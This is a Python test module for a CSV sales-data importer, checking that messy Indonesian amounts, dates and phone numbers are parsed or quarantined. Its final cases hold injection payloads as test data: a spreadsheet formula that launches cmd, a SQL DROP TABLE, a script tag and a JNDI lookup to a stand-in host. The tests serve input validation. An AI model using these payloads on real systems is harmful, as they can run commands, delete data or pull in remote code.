"""Values that look right to people and wrong to programs, or the other way round."""

from __future__ import annotations

from tests.landing.case import HEADER, Case, sales


def amounts(*texts: str) -> str:
    return HEADER + "".join(f"R#{n};04/03/2024;kopi;{text}\n" for n, text in enumerate(texts))


def days(*texts: str) -> str:
    return HEADER + "".join(f"R#{n};{text};kopi;15000\n" for n, text in enumerate(texts))


PEOPLE = "id;day;nama;telepon;email\n"
DAY = "2024-03-04"
FORMULAS = ("=HYPERLINK(A1)", "+1+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)")

CELLS = (
    Case("rupiah as people write them", "rupiah.csv", amounts("Rp 1.234.567,00", "Rp1.234.567", "1.234,5", "IDR 15.000", "15000,-"), channel="rupiah", accepted=5),
    Case("numbers as accountants write them", "accounts.csv", amounts("(1.000)", "1.000-", "-1.000", "Rp -1.000,00"), channel="rupiah", accepted=4),
    Case("amounts that are none", "amounts.csv", amounts("#REF!", "1e400", "NaN", "Infinity"), channel="rupiah", quarantined=4, message="amount cannot be read as a number", stage="rules"),
    Case("a word for nothing where the amount should be", "nothing.csv", amounts("n/a"), channel="rupiah", quarantined=1, message="An order line needs an amount", stage="rules"),
    Case("a number of a thousand digits", "digits.csv", amounts("9" * 1000), channel="rupiah", quarantined=1, message="amount cannot be read as a number", stage="rules"),
    Case("days as Excel counts them", "serial.csv", days("45355"), accepted=1, note="read as 4 March 2024"),
    Case("days in Indonesian words", "words.csv", days("4 Maret 2024", "Senin, 4 Mar 2024", "04-Mei-2024"), channel="rupiah", accepted=3),
    Case("days that do not exist", "nodays.csv", days("31/02/2024", "0000-00-00", "2024-13-01"), quarantined=3, message="ordered_at cannot be read", stage="rules"),
    Case("days before any shop and after any clock", "fardays.csv", days("0001-01-01", "9999-12-31"), quarantined=2, message="ordered_at cannot be read", stage="rules"),
    Case("phones that Excel turned into 8.12E+11", "phones.csv", PEOPLE + f"R#1;{DAY};A;8.12E+11;\nR#2;{DAY};B;6.28122E+12;\n", channel="people", accepted=2, note="the phone is left empty and counted as unusable"),
    Case("phones that lost their zero", "zero.csv", PEOPLE + f"R#1;{DAY};A;81234567890;\n", channel="people", accepted=1),
    Case("formulas in cells", "formulas.csv", HEADER + "".join(f"R#{n};{DAY};{text};1\n" for n, text in enumerate(FORMULAS)), accepted=len(FORMULAS), note="text like any other; a CSV that leaves has ' before it"),
    Case("SQL in a cell", "sql.csv", sales().replace("kopi", "') DROP TABLE orders --"), accepted=2),
    Case("a script in a cell", "script.csv", sales().replace("kopi", "<script>alert(1)</script>"), accepted=2),
    Case("a template in a cell", "template.csv", sales().replace("kopi", "{{7*7}} ${jndi:ldap://x.test/a} %s%n"), accepted=2),
)  # fmt: skip
